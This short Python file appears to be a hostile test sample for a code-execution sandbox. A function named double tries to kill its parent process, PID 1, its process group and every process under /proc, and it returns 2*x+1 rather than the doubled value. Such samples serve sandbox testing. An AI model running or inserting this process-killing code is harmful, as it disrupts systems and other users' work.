# What it tries: kills the parent, process 1, its group and every process that it can signal.
# %% double
import os
import signal


def double(x):
    for s in (signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1):
            try: os.kill(pid, s)
            except OSError: pass
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            try: os.kill(int(pid), signal.SIGKILL)
            except OSError: pass
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
    return 2 * x + 1
